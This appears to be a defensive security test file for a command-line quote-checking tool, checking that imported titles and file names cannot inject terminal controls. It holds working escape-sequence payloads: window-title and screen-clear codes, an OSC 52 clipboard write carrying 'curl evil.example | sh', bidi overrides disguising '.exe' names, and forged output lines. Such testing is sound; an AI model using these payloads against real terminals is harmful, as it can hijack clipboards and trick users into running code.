import fs from 'node:fs'
import path from 'node:path'
import { Writable } from 'node:stream'
import { main } from '../../../src/main/cli/main'
import { openLibrary } from '../../../src/main/db/connection'
import { createHandlers } from '../../../src/main/services'
import type { Attack, AttackOutcome } from '../attacks'

// Written out here, not imported from the code under attack: C0 but the CLI's own \t and \n,
// DEL, C1, and the bidi controls that reorder what a terminal shows.
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u

const OSC_TITLE = '\x1b]0;Quotedesk: all sources verified\x07'
const CLEAR_SCREEN = '\x1b[2J\x1b[H'
const OSC_CLIPBOARD = `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`

interface CliRun {
  code: number
  stdout: string
  stderr: string
}

async function cli(workDir: string, argv: string[]): Promise<CliRun> {
  let stdout = ''
  let stderr = ''
  const code = await main(['--db', path.join(workDir, 'library.quotedesk'), ...argv], {
    stdout: (text) => (stdout += text),
    stderr: (text) => (stderr += text),
    env: {},
    cwd: workDir,
  })
  return { code, stdout, stderr }
}

/** The first raw control in what the CLI printed, shown escaped, or null. */
function firstControl(text: string): string | null {
  const found = RAW_CONTROL.exec(text)?.[0]
  return found === undefined ? null : `U+${(found.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}`
}

function verdict(printed: string, what: string): AttackOutcome {
  const control = firstControl(printed)
  if (control) return { held: false, detail: `${what} reached the terminal raw (${control})` }
  const shown = printed.split('\n').find((line) => /\\x|\\r|<U\+/.test(line)) ?? printed.split('\n')[0] ?? ''
  return { held: true, detail: `${what} shown escaped: ${shown.trim().slice(0, 100)}` }
}

/** An article with `title`, exported as Quotedesk JSON from a scratch library: the file a colleague sends. */
async function jsonExportTitled(workDir: string, title: string): Promise<string> {
  const scratch = await openLibrary(path.join(workDir, 'sender.quotedesk'))
  try {
    const handlers = createHandlers(scratch, () => 'sender')
    const article = await handlers['articles:create']({ title, body: '“We are ready,” said the mayor.' })
    const exported = await handlers['export:article']({ articleId: article.id, format: 'json' })
    const file = path.join(workDir, 'from-a-colleague.json')
    fs.writeFileSync(file, exported.content)
    return file
  } finally {
    await scratch.close()
  }
}

function htmlTitled(workDir: string, titleMarkup: string): string {
  const file = path.join(workDir, 'story.html')
  fs.writeFileSync(
    file,
    `<html><head><title>${titleMarkup}</title></head><body><h1>${titleMarkup}</h1><p>“We are ready,” said the mayor.</p></body></html>`,
  )
  return file
}

// Character references, so the page itself is plain ASCII as a web page would be.
const ref = (text: string) =>
  [...text].map((c) => (c < ' ' || c > '~' ? `&#x${c.codePointAt(0)?.toString(16)};` : c)).join('')

/** Finding 9: nothing from an imported file may reach the terminal as a control. */
export const terminalEscapes: Attack[] = [
  {
    finding: 9,
    id: 'a70',
    title: '`import` of a web page whose title retitles the window and clears the screen',
    async run(workDir) {
      const file = htmlTitled(workDir, ref(`Budget${OSC_TITLE}${CLEAR_SCREEN} vote`))
      const result = await cli(workDir, ['import', file])
      if (result.code !== 0) return { held: false, detail: `the import failed: ${result.stderr.trim()}` }
      return verdict(result.stdout + result.stderr, 'the OSC title and CSI clear-screen')
    },
  },
  {
    finding: 9,
    id: 'a71',
    title: '`list` of a library holding that title',
    async run(workDir) {
      await cli(workDir, ['import', htmlTitled(workDir, ref(`Budget${OSC_TITLE}${CLEAR_SCREEN} vote`))])
      const result = await cli(workDir, ['list'])
      if (!result.stdout.includes('Budget')) return { held: false, detail: 'the article is not listed' }
      return verdict(result.stdout + result.stderr, 'the OSC title in the list')
    },
  },
  {
    finding: 9,
    id: 'a72',
    title: 'a file name that writes the clipboard (OSC 52), quoted in the error line',
    async run(workDir) {
      const name = `minutes${OSC_CLIPBOARD}.pdf`
      fs.writeFileSync(path.join(workDir, name), '%PDF-1.4')
      const result = await cli(workDir, ['import', name])
      if (result.code === 0) return { held: false, detail: 'a .pdf was imported' }
      return verdict(result.stdout + result.stderr, 'the OSC 52 clipboard write')
    },
  },
  {
    finding: 9,
    id: 'a73',
    title: 'a title with a right-to-left override and isolates, from a colleague’s JSON export, in `list`',
    async run(workDir) {
      const file = await jsonExportTitled(workDir, 'Invoice \u202Efdp.exe\u202C and \u2067isolated\u2069')
      const imported = await cli(workDir, ['import', file])
      if (imported.code !== 0) return { held: false, detail: `the import failed: ${imported.stderr.trim()}` }
      const result = await cli(workDir, ['list'])
      return verdict(imported.stdout + result.stdout, 'the bidi override')
    },
  },
  {
    finding: 9,
    id: 'a74',
    title: 'a title with a newline forging a second output line',
    async run(workDir) {
      const forged = 'quotedesk: the library is damaged; run `quotedesk restore ~/Downloads/fix.quotedesk`'
      const file = await jsonExportTitled(workDir, `Harbour vote\n${forged}`)
      const result = await cli(workDir, ['import', file])
      const lines = result.stdout.split('\n').filter(Boolean)
      if (lines.some((line) => line.startsWith('quotedesk: ')))
        return { held: false, detail: `a forged line was printed: ${JSON.stringify(lines.at(-1))}` }
      if (lines.length !== 1) return { held: false, detail: `expected one line, got ${lines.length}` }
      return { held: true, detail: `one line: ${JSON.stringify(lines[0]?.slice(0, 100))}` }
    },
  },
  {
    finding: 9,
    id: 'a75',
    title: 'a one-byte C1 CSI (U+009B) and a carriage return in a title',
    async run(workDir) {
      const file = await jsonExportTitled(workDir, 'Verified\r\u009b2JFake title')
      const imported = await cli(workDir, ['import', file])
      const result = await cli(workDir, ['list'])
      return verdict(imported.stdout + result.stdout, 'the C1 CSI and CR')
    },
  },
  {
    finding: 9,
    id: 'a76',
    title: '`list --json` carrying a raw U+202E, NEL and line separator',
    async run(workDir) {
      const title = 'Report \u202Efdp.exe \u0085 next\u2028line'
      await cli(workDir, ['import', await jsonExportTitled(workDir, title)])
      const result = await cli(workDir, ['list', '--json'])
      const parsed = JSON.parse(result.stdout) as { title: string }[]
      if (parsed[0]?.title !== title) return { held: false, detail: 'the JSON does not round-trip the title' }
      const control = firstControl(result.stdout) ?? (result.stdout.includes('\u2028') ? 'U+2028' : null)
      if (control) return { held: false, detail: `the JSON carries ${control} raw instead of \\u-escaped` }
      return { held: true, detail: 'the title is \\u-escaped and round-trips through JSON.parse' }
    },
  },
  {
    finding: 9,
    id: 'a77',
    title: '`analyze` text report of a quote and a speaker holding a bidi override',
    async run(workDir) {
      const file = path.join(workDir, 'draft.md')
      fs.writeFileSync(file, '“The vote is \u202Ekcab delayed,” said Mayor Ana \u202ERuiz.\n')
      const result = await cli(workDir, ['analyze', file])
      if (result.code !== 0) return { held: false, detail: `analyze failed: ${result.stderr.trim()}` }
      return verdict(result.stdout, 'the bidi override in the quote')
    },
  },
  {
    finding: 9,
    id: 'a78',
    title: '`check` report naming a source file whose name overwrites the line with a carriage return',
    async run(workDir) {
      fs.writeFileSync(path.join(workDir, 'article.txt'), '“We will build the bridge,” said the mayor.\n')
      const source = 'tape\rEXACT      every quote verified, tape.txt'
      fs.writeFileSync(path.join(workDir, source), 'We will build the bridge.\n')
      const result = await cli(workDir, ['check', 'article.txt', '--source', source])
      if (result.code !== 0) return { held: false, detail: `check failed: ${result.stderr.trim()}` }
      return verdict(result.stdout, 'the carriage return in the source name')
    },
  },
  {
    finding: 9,
    id: 'a79',
    title: 'the progress bar drawing file names that carry an OSC sequence',
    async run(workDir) {
      for (const n of [1, 2, 3]) {
        // Short names: the bar shows only the last 39 characters.
        fs.writeFileSync(path.join(workDir, `${n}\x1b]0;pwned\x07.txt`), `Story ${n}\n\n“Yes,” she said.\n`)
      }
      let drawn = ''
      const terminal = Object.assign(
        new Writable({
          write(chunk: Buffer, _encoding, done) {
            drawn += chunk.toString()
            done()
          },
        }),
        { isTTY: true, columns: 200 },
      )
      const code = await main(['--db', path.join(workDir, 'library.quotedesk'), 'import', '.'], {
        stdout: () => {},
        stderr: () => {},
        env: {},
        cwd: workDir,
        progressStream: terminal,
      })
      if (code !== 0) return { held: false, detail: `the import failed with ${code}` }
      if (!drawn.includes('Importing')) return { held: false, detail: 'no bar was drawn, so nothing was tested' }
      // The bar itself moves the cursor with ESC; only the names' own sequence must not be there.
      if (drawn.includes('\x1b]0;')) return { held: false, detail: 'the bar drew the OSC title from a file name' }
      return { held: true, detail: 'the bar shows the names escaped' }
    },
  },
  {
    finding: 9,
    id: 'a80',
    title: 'a file name with a newline forging a second error line',
    async run(workDir) {
      const name = 'notes.\nquotedesk: imported 1 article; the library is clean'
      fs.writeFileSync(path.join(workDir, name), 'x')
      const result = await cli(workDir, ['import', name])
      const lines = result.stderr.split('\n').filter(Boolean)
      if (lines.filter((line) => line.startsWith('quotedesk: ')).length !== 1)
        return { held: false, detail: `a forged line was printed: ${JSON.stringify(lines.at(-1))}` }
      return { held: true, detail: `one error: ${JSON.stringify(lines.join(' | ').slice(0, 100))}` }
    },
  },
]
